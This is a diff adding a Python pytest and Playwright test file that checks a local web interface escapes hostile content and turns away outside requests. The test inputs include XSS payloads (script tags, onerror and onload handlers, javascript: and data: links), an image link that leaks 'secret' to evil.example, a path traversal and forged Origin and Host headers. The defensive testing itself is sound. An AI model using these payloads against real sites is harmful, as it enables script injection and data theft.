@@ -1,0 +1,190 @@
+"""Nothing that a server writes acts in the page, nothing leaves the computer, and nobody else comes in."""
+
+import http.client
+import json
+import os
+import re
+import subprocess
+import sys
+from functools import partial
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from faces.web.face import served
+from splice.host.items import Block, Message
+from support import scenes
+from support.stage import Stage
+
+PAGES = ["chat", "servers", "tools", "resources", "prompts", "activity", "permissions", "settings"]
+
+MARKDOWN = """# Title
+<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>
+![pixel](http://evil.example/?q=secret) [bad](javascript:alert(4)) [ours](/do/stop)
+[data](data:text/html,<script>alert(5)</script>)
+[good](https://example.com/a) \u202ereversed \x1b[31m
+
+```html
+<script>alert(6)</script>
+```
+"""
+
+
+def markdown(stage: Stage) -> None:
+    stage.board.put(scenes.model_says(50, MARKDOWN))
+    stage.board.put(scenes.call(51, "travel", "searchFlights", state="done", result=[Block("text", MARKDOWN)]))
+
+
+def _answered(stage: Stage, *, number: int) -> None:
+    stage.board.drop(f"question:{number}")
+
+
+@pytest.mark.parametrize("page_name", PAGES)
+def test_hostile_text_in_every_field_is_only_text(browser: Browser, page_name: str) -> None:
+    with served(scenes.hostile, markdown) as face:
+        page = face.opened(browser, f"/{page_name}")
+        for number in (6, 2, 3, 4, 5):  # one dialog after the other, and then none
+            page.wait_for_selector("[role=dialog]")
+            page.wait_for_timeout(50)
+            face.do(partial(_answered, number=number))
+        expect(page.get_by_role("dialog")).to_have_count(0)
+        openers = "main .step-h[aria-expanded=false], main .li"
+        page.evaluate("all => document.querySelectorAll(all).forEach((node) => node.click())", openers)
+        page.wait_for_timeout(200)
+        acting = "img[src*=evil], script:not([src]), iframe, object, embed, [onerror], [onload]"
+        assert page.locator(acting).count() == 0
+        shown = page.locator("body").inner_text()
+        assert "\x1b" not in shown
+        assert "\u202e" not in shown
+        assert not face.faults
+        assert all(url.startswith((face.origin, "data:")) for url in face.requests)
+        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
+
+
+def test_markdown_shows_where_links_lead_and_loads_no_picture(browser: Browser) -> None:
+    with served(scenes.empty, markdown) as face:
+        page = face.opened(browser)
+        said = page.locator(".said")
+        expect(said).to_contain_text("picture from evil.example not loaded")
+        expect(said.locator("a")).to_have_count(1)
+        expect(said.locator("a")).to_have_attribute("rel", "noopener noreferrer nofollow")
+        expect(said).to_contain_text("(example.com)")
+        expect(said.locator(".esc")).to_have_text(["U+202E", "ESC"])
+        assert not face.faults
+
+
+def test_a_stream_keeps_what_stands_and_a_result_of_5_mb_is_begun(browser: Browser) -> None:
+    with served(scenes.empty, scenes.servers) as face:
+        page = face.opened(browser)
+
+        def says(text: str, *, is_done: bool) -> None:
+            face.do(lambda stage: stage.board.put(scenes.model_says(50, text, is_done=is_done)))
+
+        says("| a | b |\n|---|---|\n| 1 | 2 |\n\nSecond", is_done=False)
+        page.locator(".said table").evaluate("node => { node.dataset.kept = 'yes' }")
+        says("| a | b |\n|---|---|\n| 1 | 2 |\n\nSecond paragraph, **whole**.", is_done=True)
+        expect(page.locator(".said strong")).to_have_text("whole")
+        expect(page.locator(".said table")).to_have_attribute("data-kept", "yes")
+        long = [Block("text", "line of a result\n" * 320_000)]
+        done = scenes.call(51, "travel", "searchFlights", state="done", result=long, bytes=5_440_000, seconds=1.0)
+        face.do(lambda stage: stage.board.put(done))
+        page.locator("[data-call] .step-h").click()
+        page.get_by_role("button", name="Read the end").click()
+        expect(page.locator(".page-text")).to_contain_text("line of a result")
+        assert len(page.content()) < 500_000
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "headers", "status"),
+    [
+        ("GET", "/", {"Host": "evil.example"}, 421),
+        ("GET", "/", {"Host": "127.0.0.1"}, 421),
+        ("GET", "/", {}, 403),
+        ("GET", "/events", {}, 403),
+        ("POST", "/do/stop", {"Origin": "http://evil.example"}, 403),
+        ("POST", "/do/stop", {"Sec-Fetch-Site": "cross-site"}, 403),
+        ("GET", "/?token=wrong", {}, 403),
+        ("GET", "/static/../../app.py", {}, 404),
+    ],
+)
+def test_strangers_stay_outside(method: str, path: str, headers: dict[str, str], status: int) -> None:
+    with served(scenes.empty) as face:
+        connection = http.client.HTTPConnection("127.0.0.1", face.port, timeout=5)
+        connection.request(method, path, headers=headers)
+        answer = connection.getresponse()
+        assert answer.status == status
+        assert "default-src 'none'" in str(answer.getheader("content-security-policy"))
+        assert answer.getheader("access-control-allow-origin") is None
+        connection.close()
+
+
+def test_the_link_opens_one_browser_once_and_only_its_page_commands(browser: Browser) -> None:
+    with served(scenes.empty) as face:
+        page = face.opened(browser)
+        other = browser.new_context().new_page()
+        answer = other.goto(face.link)
+        assert answer is not None
+        assert answer.status == 403
+        expect(other.get_by_role("heading")).to_have_text("This page needs its link")
+        other.context.close()
+        without = page.evaluate('fetch("/do/stop", {method: "POST"}).then((answer) => answer.status)')
+        assert without == 403
+        assert not face.stage.told
+        cookies = {each["name"]: each for each in page.context.cookies()}
+        assert cookies[f"splice-{face.port}"]["httpOnly"]
+        assert cookies[f"splice-{face.port}"]["sameSite"] == "Strict"
+
+
+def test_a_page_elsewhere_can_neither_read_nor_command(browser: Browser) -> None:
+    with served(scenes.empty) as face, served(scenes.empty) as elsewhere:
+        page = face.opened(browser)
+        page.goto(f"{elsewhere.origin}/static/mark.svg")
+        tried = page.evaluate(
+            """async (url) => { try { return (await fetch(url, {method: "POST", credentials: "include", body: "{}",
+            headers: {"content-type": "text/plain"}})).status } catch { return "refused" } }""",
+            f"{face.origin}/do/stop",
+        )
+        assert tried == "refused"
+        assert not face.stage.told
+
+
+def test_the_connection_may_be_lost_and_comes_back(browser: Browser) -> None:
+    with served(scenes.mid_turn) as face:
+        page = face.opened(browser)
+        page.wait_for_selector("[data-question]:not([data-fresh])")
+        page.route("**/events*", lambda route: route.abort())
+        face.break_streams()
+        expect(page.locator(".banner")).to_contain_text("Connection lost")
+        expect(page.locator(".ask").first.get_by_role("button", name="Deny", exact=True)).to_be_disabled()
+        face.do(lambda stage: stage.board.put(Message(id="message:60", chat="chat:1", role="user", text="meanwhile")))
+        page.unroute("**/events*")
+        page.get_by_role("button", name="Try now").click()
+        expect(page.get_by_text("meanwhile", exact=True)).to_be_visible()
+        assert json.dumps(face.answers()) == "[]"
+
+
+def test_the_server_ends_while_a_page_looks() -> None:
+    program = (
+        "import asyncio\nfrom splice.host.web.serving import run\nfrom support.stage import Stage\n"
+        "raise SystemExit(asyncio.run(run(Stage(), 0, False)))"
+    )
+    tests = str(Path(__file__).parents[2])
+    started = [sys.executable, "-c", program]
+    with subprocess.Popen(
+        started, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": tests}
+    ) as process:
+        assert process.stderr is not None
+        said = process.stderr.readline()
+        found = re.search(r"http://127\.0\.0\.1:(\d+)(/\?token=\S+)", said)
+        assert found is not None, said
+        connection = http.client.HTTPConnection("127.0.0.1", int(found[1]), timeout=5)
+        connection.request("GET", found[2])
+        answer = connection.getresponse()
+        answer.read()
+        cookie = str(answer.getheader("set-cookie")).partition(";")[0]
+        connection.request("GET", "/events", headers={"Cookie": cookie})
+        assert connection.getresponse().status == 200
+        process.terminate()
+        assert process.wait(10) == 0
+        connection.close()
